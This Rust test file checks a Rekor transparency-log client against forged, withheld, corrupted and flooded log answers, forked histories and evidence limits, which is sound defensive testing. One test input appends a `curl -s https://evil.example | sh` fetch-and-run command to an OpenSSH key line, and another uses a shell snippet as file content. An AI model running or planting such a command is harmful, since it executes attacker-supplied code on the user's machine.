//! A session against the real log and its router, without a network: the answers pass through the test, which can
//! withhold or change each of them.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on purpose

mod scene;

use rekor_client::{
    Ask, Done, MAX_EVIDENCE, MAX_EVIDENCE_FILES, Method, Recognised, Response, Seen, Session, Step, proposed_entry,
    recognise,
};
use rekor_verifier::check::digest::Digests;
use rekor_verifier::report::Verdict;
use scene::{Scene, fixture, key, time};

impl Scene {
    fn session(&self, seen: Seen) -> Session {
        let mut session = Session::new(self.policy.clone(), time(), &[&self.base], seen);
        let product = fixture("first-rekor-twin/foo.tar.gz");
        session.add_file("foo.tar.gz", Digests::of(&product), Some(&product));
        session
    }

    fn with_link(&self, seen: Seen) -> Session {
        let mut session = self.session(seen);
        let link = fixture("first-rekor-twin/package.link");
        session.add_file("any name", Digests::of(&link), Some(&link));
        session
    }

    /// Runs a session; `answer` decides what comes back for each request.
    fn run(&self, mut session: Session, mut answer: impl FnMut(&Ask, Response) -> Result<Response, String>) -> Done {
        for _ in 0..20 {
            match session.step() {
                Step::Done(done) => return *done,
                Step::Read(_) | Step::LoadBundleVerifier => panic!("there is no layout and no bundle"),
                Step::Ask(asks) => {
                    for (id, ask) in asks {
                        match answer(&ask, self.send(&ask)) {
                            Ok(response) => session.answer(id, response),
                            Err(reason) => session.no_answer(id, &reason),
                        }
                    }
                }
            }
        }
        panic!("the session does not end");
    }

    fn honest(&self, session: Session) -> Done {
        self.run(session, |_, response| Ok(response))
    }

    /// Every request that an honest session makes.
    fn requests(&self, session: Session) -> Vec<Ask> {
        let mut asks = Vec::new();
        self.run(session, |ask, response| {
            asks.push(ask.clone());
            Ok(response)
        });
        asks
    }
}

#[test]
fn honest_answers_are_verified_with_and_without_the_link() {
    let scene = Scene::new();
    for session in [scene.session(Seen::default()), scene.with_link(Seen::default())] {
        let done = scene.honest(session);
        assert_eq!(done.report.verdict, Verdict::Verified, "{}", done.report.to_json());
        assert_eq!(done.report.links[0].entry.as_ref().unwrap().index, 2);
    }
}

#[test]
fn any_answer_that_does_not_come_leaves_it_open() {
    let scene = Scene::new();
    let seen = scene.honest(scene.session(Seen::default())).seen;
    scene.add("links/other.link", "carl");
    for start in [Scene::session, Scene::with_link] {
        let requests = scene.requests(start(&scene, seen.clone()));
        assert!(requests.len() >= 4);
        for (silent, reason) in
            requests.iter().flat_map(|ask| [(ask, "nothing came"), (ask, "500"), (ask, "garbage"), (ask, "short")])
        {
            let done = scene.run(start(&scene, seen.clone()), |ask, response| match (ask == silent, reason) {
                (false, _) => Ok(response),
                (true, "nothing came") => Err(reason.into()),
                (true, "500") => Ok(Response { status: 500, ..response }),
                (true, "garbage") => Ok(Response { body: vec![b'x'; ask.limit + 1], ..response }),
                (true, _) => Ok(Response { body: response.body[..response.body.len() / 2].to_vec(), ..response }),
            });
            let strangers =
                silent.url.ends_with("/index/retrieve") && !silent.body.as_ref().unwrap().contains("publicKey");
            let expected = match (done.report.verdict, silent.url.ends_with("/entries/retrieve")) {
                // Entries by strangers come in requests of their own, and decide nothing.
                (verdict, true) => verdict != Verdict::NotVerified,
                (verdict, false) if strangers => verdict == Verdict::Verified,
                (verdict, false) => verdict == Verdict::CouldNotTell,
            };
            assert!(expected, "{} {reason}: {}", silent.url, done.report.headline);
        }
        let nothing_recorded =
            scene.run(start(&scene, seen.clone()), |ask, response| match ask.url.ends_with("/entries/retrieve") {
                true => Err("nothing came".into()),
                false => Ok(response),
            });
        assert_eq!(nothing_recorded.report.verdict, Verdict::CouldNotTell);
    }
}

/// A stranger may record carl's public link again with other white space, as often as they like, without a body.
#[test]
fn a_flood_under_the_trusted_key_hides_nothing() {
    let scene = Scene::new();
    let link = fixture("first-rekor-twin/package.link");
    for i in 1..=50 {
        let variant = [&link[..], &vec![b' '; i]].concat();
        let body = proposed_entry(&variant, &[key("carl")], true).unwrap();
        let url = format!("{}/api/v1/log/entries", scene.base);
        let ask = Ask { method: Method::Post, url, body: Some(body), limit: 1 << 20 };
        assert_eq!(scene.send(&ask).status, 201);
    }
    let done = scene.honest(scene.session(Seen::default()));
    assert_eq!(done.report.verdict, Verdict::Verified, "{}", done.report.headline);
    assert_eq!(done.report.links[0].entry.as_ref().unwrap().index, 2);
}

#[test]
fn an_entry_named_twice_is_one_entry() {
    let scene = Scene::new();
    let done = scene.run(scene.session(Seen::default()), |ask, response| {
        if !ask.url.ends_with("/index/retrieve") {
            return Ok(response);
        }
        let list = String::from_utf8(response.body).unwrap();
        let body = format!("[{0},{0}]", list.trim().trim_start_matches('[').trim_end_matches(']'));
        Ok(Response { body: body.into_bytes(), ..response })
    });
    assert_eq!(done.report.verdict, Verdict::Verified, "{}", done.report.headline);
    assert_eq!(done.report.links[0].more, 0);
}

#[test]
fn being_turned_away_is_not_a_shrunk_log() {
    let scene = Scene::new();
    let old = scene.send(&scene.requests(scene.session(Seen::default())).into_iter().find(is_checkpoint).unwrap());
    scene.add("links/other.link", "carl");
    let seen = scene.honest(scene.session(Seen::default())).seen;
    for status in [401, 408, 429, 500, 404] {
        let done = scene.run(scene.session(seen.clone()), |ask, response| match ask.url.contains("/tile/") {
            _ if is_checkpoint(ask) => Ok(old.clone()),
            true => Ok(Response { status, ..response }),
            false => Ok(response),
        });
        let expected = if status == 404 { Verdict::NotVerified } else { Verdict::CouldNotTell };
        assert_eq!(done.report.verdict, expected, "{status}: {}", done.report.headline);
    }
}

#[test]
fn a_file_that_cannot_be_read_does_not_hide() {
    let scene = Scene::new();
    for (file, expected) in [
        (&b"-----BEGIN EVIL-----\nAAAA\n-----END EVIL-----\n"[..], Verdict::CouldNotTell),
        (b"{\\rtf1 evil}", Verdict::NotVerified),
        (b"{ echo evil; }", Verdict::NotVerified),
    ] {
        let mut session = scene.with_link(Seen::default());
        session.add_file("evil", Digests::of(file), Some(file));
        assert_eq!(scene.honest(session).report.verdict, expected, "{}", String::from_utf8_lossy(file));
    }
}

/// Flips one byte after the other in every answer. Nothing may panic, and whatever is still verified is the same
/// entry: only words that are nobody's proof (the time, v1's own signatures) can change unnoticed.
#[test]
fn any_byte_of_any_answer_may_lie() {
    let scene = Scene::new();
    let honest = scene.honest(scene.with_link(Seen::default())).report;
    for target in scene.requests(scene.with_link(Seen::default())) {
        let length = scene.send(&target).body.len();
        for at in (0..length).step_by(1 + length / 150) {
            let done = scene.run(scene.with_link(Seen::default()), |ask, mut response| {
                if *ask == target {
                    response.body[at] ^= 0x01;
                }
                Ok(response)
            });
            if done.report.verdict == Verdict::Verified {
                let (entry, expected) = (done.report.links[0].entry.as_ref(), honest.links[0].entry.as_ref());
                assert_eq!(entry.map(|e| (&e.uuid, e.index)), expected.map(|e| (&e.uuid, e.index)));
            }
        }
    }
}

#[test]
fn what_is_remembered_only_grows() {
    let scene = Scene::new();
    let first = scene.honest(scene.session(Seen::default())).seen;
    let old = scene.send(&scene.requests(scene.session(Seen::default())).into_iter().find(is_checkpoint).unwrap());
    scene.add("links/other.link", "carl");
    let second = scene.honest(scene.session(first.clone())).seen;
    assert_ne!(first, second, "a newer checkpoint is remembered");
    assert_eq!(scene.honest(scene.session(second.clone())).seen, second);

    // The checkpoint of the first visit again: older, proven to be a part of what was seen, and not remembered.
    let stale = scene.run(scene.session(second.clone()), |ask, response| match is_checkpoint(ask) {
        true => Ok(old.clone()),
        false => Ok(response),
    });
    assert_eq!(stale.report.verdict, Verdict::Verified, "{}", stale.report.to_json());
    assert_eq!(stale.seen, second);

    assert_eq!(Seen::parse(&second.to_json()).unwrap(), second);
    assert!(Seen::parse("{\"logs\":").is_err() && Seen::parse("{\"lgos\":{}}").is_err());
}

fn is_checkpoint(ask: &Ask) -> bool {
    ask.url.ends_with("/checkpoint")
}

#[test]
fn a_second_history_is_an_alarm_that_stays() {
    let scene = Scene::new();
    let fork = scene.fork();
    scene.add("links/other.link", "carl");
    fork.add("links/two-products.link", "carl");
    let seen = scene.honest(scene.session(Seen::default())).seen;
    let alarmed = fork.honest(fork.session(seen.clone()));
    assert_eq!(alarmed.report.verdict, Verdict::NotVerified);
    let vkey = &scene.policy.logs[0].vkey;
    assert!(alarmed.seen.alarm(vkey).is_some());
    // The honest log again: the alarm stands until a person has dealt with it.
    let mut later = scene.honest(scene.session(alarmed.seen));
    assert_eq!(later.report.verdict, Verdict::NotVerified);
    assert!(later.seen.forget(vkey));
    assert_eq!(scene.honest(scene.session(later.seen)).report.verdict, Verdict::Verified);
}

#[test]
fn files_are_recognised_by_content() {
    assert!(matches!(recognise(&fixture("first-rekor-twin/package.link")), Recognised::Link));
    assert!(matches!(recognise(&fixture("links/bad/duplicate-key.link")), Recognised::Link));
    assert!(matches!(recognise(&fixture("keys/carl.pub")), Recognised::Keys(_)));
    assert!(matches!(recognise(&fixture("keys/carl.json")), Recognised::Keys(_)));
    assert!(matches!(recognise(&fixture("keys/carl.key")), Recognised::UnusableKey(_)));
    assert!(matches!(recognise(&fixture("first-rekor-twin/foo.tar.gz")), Recognised::Artifact));
    for other in ["", "{}", "[]", "hello", "\u{feff}{}", "AAAA", "{\"signed\":1}"] {
        assert!(matches!(recognise(other.as_bytes()), Recognised::Artifact), "{other:?}");
    }
}

#[test]
fn only_digests_and_keys_are_asked_for() {
    let scene = Scene::new();
    for ask in scene.requests(scene.with_link(Seen::default())) {
        let sent = format!("{} {}", ask.url, ask.body.unwrap_or_default());
        for private in ["foo", "package", "any name", "tar", "signatures"] {
            assert!(!sent.replace("publicKey", "").contains(private), "{private} in {sent}");
        }
    }
}

/// What is said of a session's files that are not looked at, by name.
fn unread(session: Session, scene: &Scene) -> Vec<(String, String)> {
    let done = scene.honest(session);
    assert_eq!(done.report.verdict, Verdict::CouldNotTell);
    done.evidence.unrecognised
}

#[test]
fn a_session_holds_so_much_evidence_and_says_what_it_left_out() {
    let scene = Scene::new();
    let link = fixture("first-rekor-twin/package.link");
    let add = |session: &mut Session, name: String, bytes: &[u8]| {
        assert_eq!(session.add_file(&name, Digests::of(bytes), Some(bytes)), None);
    };

    // Links that are refused when they are read: they cost the session their bytes, and this test no look-up.
    let broken = fixture("links/bad/duplicate-key.link");
    let mut files = scene.with_link(Seen::default());
    (1..MAX_EVIDENCE_FILES).for_each(|i| add(&mut files, format!("{i}"), &broken));
    files.add_link("one more", &fixture("first-rekor-twin/clone.link"));
    add(&mut files, "another".into(), &link);
    let clone = Digests::of(&fixture("first-rekor-twin/clone.link")).sha256.to_string();
    let mut asked = false;
    let done = scene.run(files, |ask, response| {
        asked |= ask.body.as_deref().unwrap_or_default().contains(&clone);
        Ok(response)
    });
    assert!(!asked, "what is not looked at is not looked up");
    let names: Vec<_> = done.evidence.unrecognised.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!((names, done.evidence.links.len()), (vec!["one more", "another"], MAX_EVIDENCE_FILES));
    assert_eq!(done.report.unrecognised.len(), 2);

    let large = [&broken[..], &vec![b' '; MAX_EVIDENCE / 64 - broken.len()]].concat();
    let mut bytes = scene.session(Seen::default());
    (0..65).for_each(|i| add(&mut bytes, format!("{i}"), &large));
    let left_out = scene.honest(bytes).evidence.unrecognised;
    assert_eq!(left_out.len(), 1);
    assert!(left_out[0].1.contains("64 MiB"), "{left_out:?}");
}

#[test]
fn so_many_keys_are_looked_at() {
    let scene = Scene::new();
    let keys: Vec<_> = std::iter::repeat_n(fixture("key-forms/dora.openssh"), 40).collect();
    let mut session = scene.with_link(Seen::default());
    for name in ["first", "second"] {
        session.add_file(name, Digests::of(b""), Some(&keys.concat()));
    }
    let left_out = unread(session, &scene);
    assert_eq!(left_out.len(), 1);
    assert_eq!(left_out[0].0, "second");
    assert!(left_out[0].1.contains("more keys than are looked at"), "{left_out:?}");
}

#[test]
fn what_was_not_read_leaves_it_open() {
    let scene = Scene::new();
    let mut session = scene.with_link(Seen::default());
    session.add_unread("pipe", "not read: neither a file nor a folder");
    assert_eq!(unread(session, &scene), [("pipe".into(), "not read: neither a file nor a folder".into())]);
}

#[test]
fn a_file_with_a_key_or_a_bundle_in_it_is_an_artifact() {
    let manifest = |more: &str| format!(r#"{{"name":"x","scripts":{{"preinstall":"x"}},{more}}}"#);
    let key = "8a88e3dd7409f195fd52db2d3cba5d72ca6709bf1d94121bf3748801b40f6f5c";
    let bundle = r#"{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}"#;
    let openssh = String::from_utf8(fixture("key-forms/dora.openssh")).unwrap();
    for file in [
        manifest(&format!(r#""keytype":"ed25519","keyval":{{"public":"{key}"}}"#)),
        manifest(&format!(r#""attestations":[{{"bundle":{bundle}}}]"#)),
        manifest(r#""mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json""#),
        format!("{} $(curl -s https://evil.example | sh)", openssh.trim_end()),
    ] {
        assert!(matches!(recognise(file.as_bytes()), Recognised::Artifact), "{file}");
    }
}
